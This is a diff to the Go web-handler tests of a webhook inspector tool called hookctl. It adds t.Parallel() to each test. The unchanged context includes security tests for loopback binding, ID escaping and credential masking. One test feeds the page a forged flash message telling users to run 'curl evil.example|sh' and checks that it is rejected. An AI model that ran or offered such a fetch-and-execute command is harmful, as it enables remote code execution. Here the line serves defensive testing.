@@ -61,6 +61,7 @@ func send(t *testing.T, req *http.Request) (int, string, http.Header) {
 }
 
 func TestSecurity(t *testing.T) {
+	t.Parallel()
 	h, srv, st := newHandler(t)
 	cat, _ := catalog.Load(catalog.Options{})
 	d := &service.Dispatcher{Store: st, Catalog: cat}
@@ -130,6 +131,7 @@ func TestSecurity(t *testing.T) {
 }
 
 func TestPagesEscapeBodies(t *testing.T) {
+	t.Parallel()
 	_, srv, st := newHandler(t)
 	d := &service.Dispatcher{Store: st}
 	pub, err := d.Publish(context.Background(), &store.Event{Type: "card.created", Provider: "bond",
@@ -151,6 +153,7 @@ func TestPagesEscapeBodies(t *testing.T) {
 }
 
 func TestDiffJSON(t *testing.T) {
+	t.Parallel()
 	lines, err := web.DiffJSON([]byte(`{"a":1,"b":{"c":"x","d":[1,2]},"gone":true}`), []byte(`{"a":1,"b":{"c":"y","d":[1,2,3]},"new":null}`))
 	if err != nil {
 		t.Fatal(err)
@@ -190,6 +193,7 @@ func TestDiffJSON(t *testing.T) {
 // order sent, and the values that differ from the other side's at the same
 // position are marked.
 func TestDiffHeaderWithSeveralValues(t *testing.T) {
+	t.Parallel()
 	_, srv, st := newHandler(t)
 	received := func(id string, h map[string][]string) string {
 		t.Helper()
@@ -262,6 +266,7 @@ func postForm(t *testing.T, srv *httptest.Server, h *web.Handler, path string, v
 }
 
 func TestSubscriptionAndTriggerForms(t *testing.T) {
+	t.Parallel()
 	h, srv, st := newHandler(t)
 	ctx := context.Background()
 	code, body, _ := postForm(t, srv, h, "/subscriptions", url.Values{"url": {"http://127.0.0.1:9/hook"}, "events": {"card.creatd"}})
@@ -317,6 +322,7 @@ func TestSubscriptionAndTriggerForms(t *testing.T) {
 }
 
 func TestDetailPendingAndDownload(t *testing.T) {
+	t.Parallel()
 	_, srv, st := newHandler(t)
 	d := &service.Dispatcher{Store: st}
 	pub, err := d.Publish(context.Background(), &store.Event{Type: "card.created", Provider: "bond",
@@ -344,6 +350,7 @@ func TestDetailPendingAndDownload(t *testing.T) {
 // wildcard passed the DNS-rebinding check) while refusing the user's own
 // browser at 127.0.0.1.
 func TestStartLoopbackOnly(t *testing.T) {
+	t.Parallel()
 	st, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "hookctl.db"))
 	if err != nil {
 		t.Fatal(err)
@@ -389,6 +396,7 @@ func TestStartLoopbackOnly(t *testing.T) {
 // command taken from the page (as the clipboard gets it) is run by a shell
 // and the receiver compares what arrives with what was stored.
 func TestCopyAsCurlBodyBytes(t *testing.T) {
+	t.Parallel()
 	for _, tool := range []string{"bash", "curl", "base64"} {
 		if _, err := exec.LookPath(tool); err != nil {
 			t.Skipf("no %s to run the command", tool)
@@ -438,6 +446,7 @@ func TestCopyAsCurlBodyBytes(t *testing.T) {
 // received and did not forward): one that arrived between the last row of
 // a page and the first of the next was on neither page.
 func TestLogPagesKeepEventsBetweenPages(t *testing.T) {
+	t.Parallel()
 	_, srv, st := newHandler(t)
 	d := &service.Dispatcher{Store: st}
 	publish := func(n int) {
@@ -494,6 +503,7 @@ func TestLogPagesKeepEventsBetweenPages(t *testing.T) {
 // rejected between two deliveries, and 30 of them were missing, with no
 // "older" link at all.
 func TestLogPagesKeepEveryEventOfABurst(t *testing.T) {
+	t.Parallel()
 	_, srv, st := newHandler(t)
 	d := &service.Dispatcher{Store: st}
 	publish := func() {
@@ -566,6 +576,7 @@ func TestLogPagesKeepEveryEventOfABurst(t *testing.T) {
 // only: a link from elsewhere cannot put its own words on the page
 // (http://127.0.0.1:4040/?flash=Your+store+is+corrupt:+run+curl+…|sh).
 func TestFlashOnlyFromActions(t *testing.T) {
+	t.Parallel()
 	h, srv, st := newHandler(t)
 	for _, u := range []string{"/?flash=Your+store+is+corrupt%3A+run+curl+evil.example%7Csh", "/subscriptions?flash=x&fs=forged"} {
 		req, _ := http.NewRequest("GET", srv.URL+u, nil)
@@ -598,6 +609,7 @@ func TestFlashOnlyFromActions(t *testing.T) {
 // subscription disabled): it was published to the listener's subscription
 // instead, which failed with "subscription … is disabled".
 func TestResendForwardGoesToTheApp(t *testing.T) {
+	t.Parallel()
 	h, srv, st := newHandler(t)
 	cat, _ := catalog.Load(catalog.Options{})
 	subs := &subscription.Service{Store: st, Catalog: cat}
@@ -638,6 +650,7 @@ func TestResendForwardGoesToTheApp(t *testing.T) {
 // login, and a Host header naming the wildcard passed the DNS-rebinding
 // check, so anyone on the network read the secrets the API key protects.
 func TestNewRefusesWhenNotLoopback(t *testing.T) {
+	t.Parallel()
 	st, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "hookctl.db"))
 	if err != nil {
 		t.Fatal(err)
@@ -663,6 +676,7 @@ func TestNewRefusesWhenNotLoopback(t *testing.T) {
 // The live stream outlives the server's WriteTimeout (serve sets 60s): it
 // was cut every minute and the page flickered "reconnecting…".
 func TestLiveOutlivesWriteTimeout(t *testing.T) {
+	t.Parallel()
 	st, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "hookctl.db"))
 	if err != nil {
 		t.Fatal(err)
@@ -715,6 +729,7 @@ func TestLiveOutlivesWriteTimeout(t *testing.T) {
 // resent as stored (a text field turned its bytes into U+FFFD), and an
 // XML body is offered as it was sent (indented, it was resent indented).
 func TestEditKeepsBodyBytes(t *testing.T) {
+	t.Parallel()
 	h, srv, st := newHandler(t)
 	d := &service.Dispatcher{Store: st}
 	publish := func(payload []byte, ct string) string {
@@ -762,6 +777,7 @@ func TestEditKeepsBodyBytes(t *testing.T) {
 // its token), and with the token in a header the handler saw an empty body
 // and resent an empty edited copy.
 func TestTooLargeForm(t *testing.T) {
+	t.Parallel()
 	h, srv, st := newHandler(t)
 	pub := publishOne(t, st)
 	big := `{"pad":"` + strings.Repeat("x", 9<<20) + `"}`
@@ -788,6 +804,7 @@ func TestTooLargeForm(t *testing.T) {
 // The largest body listen accepts by default (1 MiB), indented on the edit
 // page and form-encoded by the browser, can be resent.
 func TestEditLargeBody(t *testing.T) {
+	t.Parallel()
 	h, srv, st := newHandler(t)
 	d := &service.Dispatcher{Store: st}
 	item := `{"k":"\"q\"","n":[1,2]}`
@@ -836,6 +853,7 @@ func (s *racyStore) InspectDeliveries(ctx context.Context, q store.InspectQuery)
 // A live log with a filter does not skip a matching delivery stored
 // between its filtered read and its move of the cursor to the newest.
 func TestLiveFilterDoesNotSkip(t *testing.T) {
+	t.Parallel()
 	st, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "hookctl.db"))
 	if err != nil {
 		t.Fatal(err)
@@ -885,6 +903,7 @@ func TestLiveFilterDoesNotSkip(t *testing.T) {
 // are shown masked now, and a value left as shown resends the stored one;
 // an edited value is sent as typed.
 func TestEditMasksCredentialHeaders(t *testing.T) {
+	t.Parallel()
 	h, srv, st := newHandler(t)
 	const token, key = "Bearer s3cr3t-app-token-123", "k3y-abcdefghijklmnop"
 	ev := &store.Event{ID: "evt_fwd_auth", Type: "card.created", Provider: "bond", Source: store.SourceReceived, Verdict: "valid",
@@ -939,6 +958,7 @@ func TestEditMasksCredentialHeaders(t *testing.T) {
 // first send (claimed by the inspector's engine) is the schedule's.
 // Before, every attempt read as scheduled.
 func TestInspectorAttemptsAskedForAreManual(t *testing.T) {
+	t.Parallel()
 	recv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.Copy(io.Discard, r.Body) }))
 	defer recv.Close()
 	st, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "hookctl.db"))
@@ -1039,6 +1059,7 @@ func TestInspectorAttemptsAskedForAreManual(t *testing.T) {
 // names the secret it was checked with once: "made with the delivery's
 // own secret" (it read "made with the the delivery's secret").
 func TestVerdictOfAdHocDelivery(t *testing.T) {
+	t.Parallel()
 	_, srv, st := newHandler(t)
 	ctx := context.Background()
 	const secret = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"
@@ -1078,6 +1099,7 @@ func TestVerdictOfAdHocDelivery(t *testing.T) {
 // deliveries, were on no page: 30 deliveries then 120 rejected requests,
 // and 50 of the requests were missing.
 func TestLiveFloodOfEventsHasNoHole(t *testing.T) {
+	t.Parallel()
 	st, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "hookctl.db"))
 	if err != nil {
 		t.Fatal(err)
@@ -1190,6 +1212,7 @@ func TestLiveFloodOfEventsHasNoHole(t *testing.T) {
 // were: "msg_a/b?c#d" linked to /events/msg_a/b (404), and
 // "msg_../../overview" to the overview page.
 func TestEventLinksEscapeTheID(t *testing.T) {
+	t.Parallel()
 	_, srv, st := newHandler(t)
 	ids := []string{"msg_a/b?c#d", "msg_../../overview", "msg_100%", "msg_ü space"}
 	for _, id := range ids {
@@ -1241,6 +1264,7 @@ func TestEventLinksEscapeTheID(t *testing.T) {
 // --event does; it said "No deliveries match these filters", as if none
 // of type card* had been sent.
 func TestLogInvalidTypeFilterSaysWhy(t *testing.T) {
+	t.Parallel()
 	_, srv, st := newHandler(t)
 	d := &service.Dispatcher{Store: st}
 	if _, err := d.Publish(context.Background(), &store.Event{Type: "card.created", Provider: "bond", Payload: []byte(`{}`), ContentType: "application/json"},
@@ -1282,6 +1306,7 @@ func TestLogInvalidTypeFilterSaysWhy(t *testing.T) {
 // (the engine records "not sent: the subscription is disabled" and counts
 // an attempt). The page said "replay queued: a new attempt goes out now".
 func TestReplayDisabledSubscriptionSaysSo(t *testing.T) {
+	t.Parallel()
 	h, srv, st := newHandler(t)
 	ctx := context.Background()
 	subs := &subscription.Service{Store: st}
@@ -1332,6 +1357,7 @@ func TestReplayDisabledSubscriptionSaysSo(t *testing.T) {
 // so it was not among the other deliveries of the original's event, and
 // nothing on the original said an edited copy had been sent.
 func TestEditedCopyLinkedBothWays(t *testing.T) {
+	t.Parallel()
 	h, srv, st := newHandler(t)
 	pub := publishOne(t, st)
 	orig := pub.Deliveries[0].ID
@@ -1369,6 +1395,7 @@ func TestEditedCopyLinkedBothWays(t *testing.T) {
 // ("refused: …") and one stored before refusals had their own kind
 // ("invalid: forwarding loop …"). A failed signature still reads invalid.
 func TestRefusedIsNotAnInvalidSignature(t *testing.T) {
+	t.Parallel()
 	_, srv, st := newHandler(t)
 	const loop = "forwarding loop: this request was already forwarded by this listen"
 	for id, v := range map[string]string{"rej_new": "refused: " + loop, "rej_old": "invalid: " + loop, "rej_sig": "invalid: no matching signature"} {
@@ -1409,6 +1436,7 @@ func TestRefusedIsNotAnInvalidSignature(t *testing.T) {
 // log's times of day and the chart's axis are on this machine's clock and
 // did not say which zone that is.
 func TestTimesSayTheirZone(t *testing.T) {
+	t.Parallel()
 	h, srv, st := newHandler(t)
 	pub := publishOne(t, st)
 	orig := pub.Deliveries[0].ID
@@ -1445,6 +1473,7 @@ func TestTimesSayTheirZone(t *testing.T) {
 // forward, and the Trigger page said a type "goes to 0 enabled
 // subscription(s)" above a Send button that could only fail.
 func TestEmptyPagesSayWhatToDo(t *testing.T) {
+	t.Parallel()
 	_, srv, _ := newHandler(t)
 	get := func(path string) string {
 		req, _ := http.NewRequest("GET", srv.URL+path, nil)
@@ -1470,6 +1499,7 @@ func TestEmptyPagesSayWhatToDo(t *testing.T) {
 // (?status=ok) says so, as an impossible type pattern does: it showed "No
 // deliveries match these filters" under selects that all read "any".
 func TestLogUnknownChoiceSaysWhy(t *testing.T) {
+	t.Parallel()
 	_, srv, _ := newHandler(t)
 	for q, want := range map[string]string{
 		"status=ok":        `unknown status &#34;ok&#34;: use one of pending, succeeded, failed`,
@@ -1490,6 +1520,7 @@ func TestLogUnknownChoiceSaysWhy(t *testing.T) {
 // empty field and a Preview button, the catalog's names only in a list
 // that opens on typing.
 func TestTriggerPageSaysWhatToType(t *testing.T) {
+	t.Parallel()
 	_, srv, _ := newHandler(t)
 	req, _ := http.NewRequest("GET", srv.URL+"/trigger", nil)
 	_, page, _ := send(t, req)
@@ -1510,6 +1541,7 @@ func TestTriggerPageSaysWhatToType(t *testing.T) {
 // read yet: a failed delivery stored after a flood of pending ones never
 // came. The cursor moves to the newest only once the reads caught up.
 func TestLiveStatusFilterFloodDoesNotSkip(t *testing.T) {
+	t.Parallel()
 	st, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "hookctl.db"))
 	if err != nil {
 		t.Fatal(err)
